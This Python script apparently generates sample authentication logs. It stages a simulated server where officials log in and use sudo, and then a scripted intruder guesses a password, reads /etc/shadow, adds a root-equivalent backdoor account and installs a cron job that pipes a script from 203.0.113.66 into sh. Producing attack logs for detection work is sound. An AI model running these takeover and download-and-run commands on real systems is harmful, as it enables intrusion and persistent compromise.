"""sshd, sudo, cron and accounts: journald takes what they log, rsyslog keeps it in two forms."""

from __future__ import annotations

import time
from pathlib import Path
from typing import TYPE_CHECKING

from docs.samples.recording import hosts
from docs.samples.recording.hosts import by_key, by_password, sudo
from docs.samples.recording.recordings import Recording

if TYPE_CHECKING:
    from docs.samples.recording.hosts import House
    from docs.samples.recording.machine import Machine, Network
    from docs.samples.recording.recordings import Logs

FILES = Path(__file__).resolve().parent / "files"
JOBS = """SHELL=/bin/sh
PATH=/usr/sbin:/usr/bin:/sbin:/bin
* * * * * saoluu true sao-luu-co-so-du-lieu
*/2 * * * * root true don-tep-tam
"""


def play(network: Network) -> Logs:
    """Let officials work, then let an intruder in beside them; give every form of what was logged."""
    scene = hosts.house(network)
    start(scene.server)
    work(scene)
    next_minute()
    normal = taken(scene.server, "-normal")
    start_of_attack = scene.server.run("date '+%Y-%m-%d %H:%M:%S'").strip()
    attack(scene)
    next_minute()
    time.sleep(2)
    journal = f"journalctl -q --since '{start_of_attack}' -o "
    return {
        **normal,
        **taken(scene.server),
        "linux/journal.export": scene.server.run(journal + "export").encode(),
        "linux/journal.json": scene.server.run(journal + "json").encode(),
    }


def start(server: Machine) -> None:
    """Start the log's daemons, then the programs that log."""
    server.write("/etc/systemd/journald.conf", (FILES / "journald.conf").read_text(encoding="utf-8"))
    server.write("/etc/rsyslog.conf", (FILES / "linux-rsyslog.conf").read_text(encoding="utf-8"))
    server.run("mkdir -p /run/systemd/journal /var/log/journal && ln -sf /run/systemd/journal/dev-log /dev/log")
    server.run("rm -f /etc/cron.d/* /etc/systemd/journald.conf.d/*")
    server.write("/etc/cron.d/sao-luu", JOBS)
    server.start(["/lib/systemd/systemd-journald"])
    server.wait("test -S /run/systemd/journal/dev-log")
    server.start(["rsyslogd", "-n", "-i", "/run/rsyslogd.pid"])
    server.wait("test -S /run/systemd/journal/syslog")
    server.start(["/usr/sbin/sshd", "-D"])
    server.start(["cron", "-f"])
    server.wait_for_port(22)


def taken(server: Machine, what: str = "") -> dict[str, bytes]:
    """Give what rsyslog kept so far, in both forms."""
    return {f"linux/{name}{what}.log": server.take(f"/var/log/{name}.log") for name in ("auth", "auth-5424")}


def work(scene: House) -> None:
    """Officials log in with a key or a password, one mistypes; they run what they may, and make an account."""
    by_key(scene.desk, sudo("quantri01", "tail -n 3 /etc/services"))
    by_password(scene.desk, "vanhanh02", sudo("vanhanh02", "/usr/bin/tail /var/log/auth.log"))
    by_password(scene.desk, "canbo03", password=hosts.MISTYPED)
    by_password(scene.desk, "canbo03", "uptime; df -h /")
    by_key(scene.desk, sudo("quantri01", "useradd -m -c 'Can bo moi' canbo04"))
    by_key(scene.desk, sudo("quantri01", "sh -c 'echo canbo04:Tam-thoi-1 | chpasswd; usermod -aG users canbo04'"))
    by_password(scene.desk, "vanhanh02", sudo("vanhanh02", "/usr/sbin/sshd -t"))
    by_password(scene.desk, "saoluu", "true")


def attack(scene: House) -> None:
    """Guess a password, get in, ask sudo for more, come back as an administrator and stay."""
    by_key(scene.desk, "uptime")
    hosts.guess(scene.intruder)
    by_password(scene.intruder, "canbo03", "id; " + sudo("canbo03", "-l") + "; " + sudo("canbo03", "cat /etc/shadow"))
    by_password(scene.intruder, "canbo03", "echo nham | su root -c id")
    by_password(scene.desk, "vanhanh02", sudo("vanhanh02", "/usr/bin/tail /var/log/auth.log"))
    forbidden = [sudo("vanhanh02", one) for one in ("/usr/bin/tail /etc/shadow", "/bin/bash")]
    forbidden.append(sudo("vanhanh02", "-u saoluu id", "nham"))
    by_password(scene.intruder, "vanhanh02", "; ".join(forbidden))
    takeover = (
        "/bin/bash -c 'id; cat /etc/shadow > /dev/null'",
        "useradd -o -u 0 -g 0 -M -s /bin/bash hotro",
        "sh -c 'echo hotro:Hotro-2026 | chpasswd'",
        "usermod -aG sudo canbo03",
        "sh -c 'echo \"* * * * * curl -s http://203.0.113.66/x.sh | sh\" | crontab -'",
        "userdel canbo04",
    )
    by_password(scene.intruder, "quantri01", "; ".join(sudo("quantri01", one) for one in takeover))
    by_password(scene.intruder, "hotro", "id", password=hosts.LEFT_BEHIND)
    by_password(scene.desk, "saoluu", "true")


def next_minute() -> None:
    """Wait until cron has run once more: it wakes at the start of a minute."""
    time.sleep(62 - time.time() % 60)


RECORDINGS = (
    Recording(
        "auth",
        {
            **hosts.PROGRAMS,
            "rsyslogd": "rsyslog",
            "journalctl": "systemd",
            "/lib/systemd/systemd-journald*": "systemd",
        },
        (
            *(f"linux/auth{form}{what}.log" for form in ("", "-5424") for what in ("", "-normal")),
            "linux/journal.export",
            "linux/journal.json",
        ),
        play,
    ),
)
